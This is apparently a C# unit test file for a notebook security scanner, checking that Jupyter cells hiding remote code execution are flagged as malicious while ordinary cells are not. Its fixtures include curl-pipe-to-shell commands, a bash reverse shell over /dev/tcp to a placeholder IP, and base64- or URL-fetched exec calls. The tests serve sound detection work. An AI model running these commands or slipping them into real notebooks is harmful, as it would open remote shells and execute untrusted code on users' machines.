using System.Text.Json;
using Proofmark.Core;
using Proofmark.Scanning.Tests.Support;

namespace Proofmark.Scanning.Tests.Code;

public sealed class NotebookTests
{
    [Theory]
    [InlineData("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))")]
    [InlineData("!curl -s http://198.51.100.7/x.sh | sh")]
    [InlineData("x = 1\nout = !curl -s http://198.51.100.7/x.sh | bash")]
    [InlineData("%%bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1")]
    [InlineData("%sx curl -s http://198.51.100.7/x.sh | sh")]
    [InlineData("import urllib.request as u\n%matplotlib inline\nexec(u.urlopen('http://198.51.100.7/x').read())")]
    public void ACellThatHidesWhatItRunsIsMalicious(string cell) => Scan(Code(cell)).ReasonCodes.Should().Equal("malicious");

    [Theory]
    [InlineData("%matplotlib inline\nimport numpy as np\n!pip install -q torch\nnp.random.rand?\n?np\nx = np.ones(3)")]
    [InlineData("%%time\nimport subprocess\nsubprocess.run(['ls'])")]
    [InlineData("%%html\n<script>alert(1)</script>")]
    [InlineData("import torch\nm = torch.load('model.pt')\nfiles = !ls data")]
    public void OrdinaryCellsAreRemarksAtMost(string cell)
    {
        var result = Scan(Code(cell));

        result.Outcome.Should().Be(Outcome.NotApplicable);
        result.Findings.Should().OnlyContain(f => f.Severity == Severity.Info);
    }

    [Fact]
    public void ScriptsInOutputsAreCounted()
    {
        var cell = new { cell_type = "code", source = new[] { "1" }, outputs = new object[] { new { data = new Dictionary<string, string[]> { ["text/html"] = ["<div>", "<script>x()</script>"] } }, new { data = new Dictionary<string, string> { ["application/javascript"] = "x()" } } } };

        Scan(cell).Findings.Should().ContainSingle(f => f.RuleId == "notebook.script-output" && f.Message.StartsWith("2 outputs"));
    }

    [Fact]
    public void ANotebookThatCannotBeReadIsNotEstablishedWhenItIsNamed() => Scans.File("a.ipynb", "{\"cells\": ["u8.ToArray()).Outcome.Should().Be(Outcome.NotEstablished);

    [Fact]
    public void TheLineIsThatOfTheCell()
    {
        const string Text = "{\"nbformat\": 4,\n \"cells\": [\n  {\"cell_type\": \"markdown\", \"source\": [\"exec(x)\"]},\n  {\"cell_type\": \"code\",\n   \"source\": [\"!curl -s http://198.51.100.7/x.sh | sh\"]}\n ]}";

        Scans.File("a.ipynb", System.Text.Encoding.UTF8.GetBytes(Text)).Findings.Should().ContainSingle(f => f.Severity == Severity.Critical).Which.Location.Line.Should().Be(5);
    }

    private static object Code(string source) => new { cell_type = "code", source };

    private static CheckResult Scan(object cell) => Scans.File("a.ipynb", JsonSerializer.SerializeToUtf8Bytes(new { nbformat = 4, cells = new[] { cell } }));
}
